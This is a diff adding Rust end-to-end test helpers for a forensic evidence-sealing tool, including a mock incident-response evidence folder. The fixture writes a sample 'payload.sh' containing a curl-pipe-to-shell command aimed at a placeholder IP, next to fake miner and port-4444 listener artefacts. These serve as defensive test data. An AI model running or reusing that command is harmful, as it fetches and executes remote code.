@@ -1,0 +1,162 @@
+//! Helpers shared by the end-to-end tests.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+/// The binary under test.
+pub fn forensic() -> Command {
+    Command::new(env!("CARGO_BIN_EXE_forensic"))
+}
+
+/// Runs `forensic ARGS`, returning the output.
+pub fn run(args: &[&str]) -> Output {
+    forensic().args(args).output().expect("forensic runs")
+}
+
+/// Exit code of an output (panics on a signal, which is itself a failure).
+pub fn code(o: &Output) -> i32 {
+    o.status.code().unwrap_or_else(|| panic!("killed by a signal: {o:?}"))
+}
+
+/// stdout as text.
+pub fn stdout(o: &Output) -> String {
+    String::from_utf8_lossy(&o.stdout).into_owned()
+}
+
+/// stderr as text.
+pub fn stderr(o: &Output) -> String {
+    String::from_utf8_lossy(&o.stderr).into_owned()
+}
+
+/// Writes `content` to `dir/name`, creating parents.
+pub fn write(dir: &Path, name: &str, content: &[u8]) {
+    let p = dir.join(name);
+    if let Some(parent) = p.parent() {
+        std::fs::create_dir_all(parent).unwrap();
+    }
+    std::fs::write(p, content).unwrap();
+}
+
+/// An evidence directory shaped like the incident-response checklist's /tmp/evidence/<timestamp>/.
+pub fn checklist_dir(root: &Path) -> PathBuf {
+    let d = root.join("evidence/20240115-100000");
+    std::fs::create_dir_all(&d).unwrap();
+    write(
+        &d,
+        "pod-spec.yaml",
+        b"apiVersion: v1\nkind: Pod\nmetadata:\n  name: web-7d9f\n  namespace: shop\n",
+    );
+    write(
+        &d,
+        "pod-logs.txt",
+        b"GET / 200\nGET /admin 403\nGET /cgi-bin/x.sh 200\n",
+    );
+    write(&d, "pod-logs-previous.txt", b"");
+    write(
+        &d,
+        "pod-describe.txt",
+        b"Name: web-7d9f\nNamespace: shop\nNode: node-1\n",
+    );
+    write(
+        &d,
+        "events.txt",
+        b"LAST SEEN   TYPE   REASON   OBJECT   MESSAGE\n2m Normal Started pod/web-7d9f Started container web\n",
+    );
+    write(
+        &d,
+        "container-id.txt",
+        b"Container ID: 4c1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8\n",
+    );
+    let inspect = std::fs::read(shared("samples/crictl-inspect/bpfman-operator-containerd-kind.json")).unwrap();
+    write(&d, "container-inspect.json", &inspect);
+    write(
+        &d,
+        "connections.txt",
+        b"Netid State  Recv-Q Send-Q Local Address:Port Peer Address:Port\ntcp LISTEN 0 128 0.0.0.0:4444 0.0.0.0:*\n",
+    );
+    write(
+        &d,
+        "open-files.txt",
+        b"lrwx------ 1 root root 64 Jan 15 10:00 3 -> socket:[123456]\n",
+    );
+    write(&d, "tmp-files.txt", b"/proc/4242/root/tmp/.x/miner\n");
+    write(&d, "shm-files.txt", b"/proc/4242/root/dev/shm/payload.sh\n");
+    write(
+        &d,
+        "files/miner",
+        &(0..=255u8).cycle().take(70_000).collect::<Vec<u8>>(),
+    );
+    write(
+        &d,
+        "files/payload.sh",
+        b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n",
+    );
+    d
+}
+
+/// A path in the shared read-only folder beside the repository.
+pub fn shared(rel: &str) -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared").join(rel)
+}
+
+/// Creates a key pair `dir/name.{key,pub}` with the binary.
+pub fn keygen(dir: &Path, name: &str) -> (PathBuf, PathBuf) {
+    let base = dir.join(name);
+    let o = run(&["keygen", "-o", base.to_str().unwrap()]);
+    assert_eq!(code(&o), 0, "keygen: {}", stderr(&o));
+    (dir.join(format!("{name}.key")), dir.join(format!("{name}.pub")))
+}
+
+/// Seals `dir` into `out` with `key`.
+pub fn seal(dir: &Path, out: &Path, key: &Path, extra: &[&str]) -> Output {
+    let mut args = vec![
+        "seal",
+        dir.to_str().unwrap(),
+        "-o",
+        out.to_str().unwrap(),
+        "--key",
+        key.to_str().unwrap(),
+    ];
+    args.extend_from_slice(extra);
+    run(&args)
+}
+
+/// A sealed checklist bundle in `root`, with its key pair.
+pub fn sealed_bundle(root: &Path) -> (PathBuf, PathBuf, PathBuf) {
+    let dir = checklist_dir(root);
+    let (key, public) = keygen(root, "responder");
+    let out = root.join("case42.zip");
+    let o = seal(
+        &dir,
+        &out,
+        &key,
+        &[
+            "--case",
+            "CASE-42",
+            "--examiner",
+            "A. Responder",
+            "--evidence-number",
+            "7",
+        ],
+    );
+    assert_eq!(code(&o), 0, "seal: {}{}", stdout(&o), stderr(&o));
+    (out, key, public)
+}
+
+/// Parses stdout as JSON.
+pub fn json(o: &Output) -> serde_json::Value {
+    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("not JSON ({e}): {}", stdout(o)))
+}
+
+/// The sorted failure classes of a `--json` verify output.
+pub fn classes(v: &serde_json::Value) -> Vec<String> {
+    let mut c: Vec<String> = v["failures"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["class"].as_str().unwrap().to_string())
+        .collect();
+    c.sort();
+    c.dedup();
+    c
+}
